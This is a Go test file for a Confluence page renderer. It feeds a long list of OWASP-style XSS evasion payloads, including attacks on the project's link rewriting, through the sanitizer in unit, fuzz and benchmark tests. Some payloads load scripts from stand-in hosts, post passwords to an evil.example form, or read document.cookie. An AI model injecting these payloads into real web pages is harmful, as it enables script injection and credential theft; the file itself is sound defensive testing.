package confluence_test

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// xssPayloads are written in the styles of the OWASP XSS Filter Evasion
// Cheat Sheet (script tags, malformed tags, entity and whitespace encoded
// javascript: URLs, event handlers, style and CSS expressions, frames,
// objects, meta refresh, base, forms, SVG/MathML mutation), plus attacks
// on our own link rewriting through Confluence's data-linked-resource-*
// attributes. Hosts are example domains.
var xssPayloads = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<IMG SRC=javascript:alert('XSS')>`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	`<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
	"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
	`<a onmouseover="alert(document.cookie)">xxs link</a>`,
	`<a onmouseover=alert(document.cookie)>xxs link</a>`,
	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`,
	`<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
	`<IMG SRC=# onmouseover="alert('xxs')">`,
	`<IMG SRC= onmouseover="alert('xxs')">`,
	`<IMG onmouseover="alert('xxs')">`,
	`<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
	`<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114` +
		`&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116` +
		`&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
	`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;` +
		`&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
	`<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105` +
		`&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040` +
		`&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
	`<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65` +
		`&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
	"<IMG SRC=\"jav\tascript:alert('XSS');\">",
	`<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
	`<IMG SRC=" &#14;  javascript:alert('XSS');">`,
	`<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>`,
	"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
	`<SCRIPT/SRC="https://xss.example/xss.js"></SCRIPT>`,
	`<<SCRIPT>alert("XSS");//\<</SCRIPT>`,
	`<SCRIPT SRC=https://xss.example/xss.js?< B >`,
	`<SCRIPT SRC=//xss.example/.j>`,
	`<IMG SRC="` + "`" + `('XSS')"` + "`",
	`<iframe src=https://xss.example/scriptlet.html <`,
	`</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
	`<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
	`<BODY BACKGROUND="javascript:alert('XSS')">`,
	`<IMG DYNSRC="javascript:alert('XSS')">`,
	`<IMG LOWSRC="javascript:alert('XSS')">`,
	`<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
	`<IMG SRC='vbscript:msgbox("XSS")'>`,
	`<svg/onload=alert('XSS')>`,
	`<BODY ONLOAD=alert('XSS')>`,
	`<BGSOUND SRC="javascript:alert('XSS');">`,
	`<BR SIZE="&{alert('XSS')}">`,
	`<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
	`<STYLE>@import'https://xss.example/xss.css';</STYLE>`,
	`<META HTTP-EQUIV="Link" Content="<https://xss.example/xss.css>; REL=stylesheet">`,
	`<STYLE>BODY{-moz-binding:url("https://xss.example/xssmoz.xml#xss")}</STYLE>`,
	`<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
	`<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
	`<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
	`<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`,
	`<XSS STYLE="behavior: url(xss.htc);">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,` +
		`PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
	`<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
	`<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
	`<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
	`<TABLE BACKGROUND="javascript:alert('XSS')">`,
	`<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
	`<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
	`<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063` +
		`\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027` +
		`\0029'\0029">`,
	`<DIV STYLE="width: expression(alert('XSS'));">`,
	`<BASE HREF="javascript:alert('XSS');//">`,
	`<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>`,
	`<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAw` +
		`MC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=" type="image/svg+xml" ` +
		`AllowScriptAccess="always"></EMBED>`,
	`<a href="javascript:alert(1)">click</a>`,
	`<a href="JaVaScRiPt:alert(1)">click</a>`,
	`<a href="&#14;javascript:alert(1)">click</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
	`<a href=" javascript:alert(1)">click</a>`,
	`<a href="java&#x0A;script:alert(1)">click</a>`,
	`<a href="vbscript:msgbox(1)">click</a>`,
	`<form action="https://evil.example/steal"><input name="password" type="password">` +
		`<button>Sign in</button></form>`,
	`<button formaction="javascript:alert(1)">x</button>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>` +
		`</table></mtext></math>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<details open ontoggle=alert(1)>`,
	`<video><source onerror="alert(1)"></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<object data="javascript:alert(1)"></object>`,
	`<template><script>alert(1)</script></template>`,
	`<isindex type=image src=1 onerror=alert(1)>`,
	`<div style="position:fixed;top:0;left:0;width:100%;height:100%" onclick="alert(1)">` +
		`overlay</div>`,
	`<img src="https://ok.example/x.png" srcset="javascript:alert(1) 1x">`,
	`<marquee onstart=alert(1)>`,
	`<a href="https://ok.example/" target="_blank" onclick="alert(1)">ext</a>`,
	// Attacks on the link rewriting.
	`<a href="/wiki/spaces/ENG/pages/5/x" data-linked-resource-id="javascript:alert(1)" ` +
		`data-linked-resource-type="page">bad id</a>`,
	`<img src="/wiki/download/attachments/2/x.png" data-linked-resource-id=` +
		`"att1&quot; onerror=&quot;alert(1)" data-linked-resource-container-id="2" ` +
		`data-linked-resource-type="attachment">`,
	`<a href="javascript:alert(1)" data-linked-resource-id="5" ` +
		`data-linked-resource-type="page">typed page, script href</a>`,
	`<img src="javascript:alert(1)" data-linked-resource-type="attachment" ` +
		`data-linked-resource-container-id="2">`,
	`<a href="//evil.example/wiki/spaces/ENG/pages/5">protocol relative</a>`,
	`<a href="/wiki/pages/viewpage.action?pageId=5&x=%22%3E%3Cscript%3Ealert(1)%3C/script%3E">q</a>`,
	`<a href="https://example.atlassian.net/wiki/download/attachments/2/a.pdf" ` +
		`rel="opener" target="_top">abs attachment</a>`,
}

// confluencePage embeds a payload in realistic Confluence view HTML: in a
// paragraph, in a table cell inside an info panel, and in a task.
func confluencePage(payload string) string {
	return `<h1 id="Releasenotes-Overview">Release notes</h1>` +
		`<p>Before ` + payload + ` after.</p>` +
		`<div class="confluence-information-macro confluence-information-macro-information">` +
		`<div class="confluence-information-macro-body"><div class="table-wrap">` +
		`<table class="confluenceTable"><tbody><tr><td class="confluenceTd">` + payload +
		`</td></tr></tbody></table></div></div></div>` +
		`<ul class="inline-task-list"><li class="checked"><span>Task ` + payload +
		`</span></li></ul><p>The end.</p>`
}

func TestRenderXSSPayloads(t *testing.T) {
	require.GreaterOrEqual(t, len(xssPayloads), 50)
	r := newTestRenderer(t)
	for i, p := range xssPayloads {
		t.Run(fmt.Sprintf("payload %02d", i), func(t *testing.T) {
			out, err := r.Render(confluencePage(p), shareLinks())
			require.NoError(t, err)
			assertSafe(t, out)
			assert.Contains(t, out, `<h1 id="Releasenotes-Overview">Release notes</h1>`,
				"the page around the payload survives")
		})
	}
}

func FuzzRender(f *testing.F) {
	for _, p := range xssPayloads {
		f.Add(confluencePage(p))
	}
	inputs, _ := filepath.Glob(filepath.Join("testdata", "render", "*.html"))
	for _, in := range inputs {
		if b, err := os.ReadFile(in); err == nil {
			f.Add(string(b))
		}
	}
	r := newTestRenderer(f)
	f.Fuzz(func(t *testing.T, body string) {
		out, err := r.Render(body, shareLinks())
		if err != nil {
			return
		}
		assertSafe(t, out)
	})
}

func BenchmarkRender100KB(b *testing.B) {
	var sb strings.Builder
	chunks := []string{"table.html", "code.html", "panels.html", "tasks.html", "images.html",
		"links.html"}
	for sb.Len() < 100<<10 {
		for _, c := range chunks {
			data, err := os.ReadFile(filepath.Join("testdata", "render", c))
			if err != nil {
				b.Fatal(err)
			}
			sb.Write(data)
		}
	}
	body := sb.String()
	r := newTestRenderer(b)
	links := shareLinks()
	b.SetBytes(int64(len(body)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := r.Render(body, links); err != nil {
			b.Fatal(err)
		}
	}
}
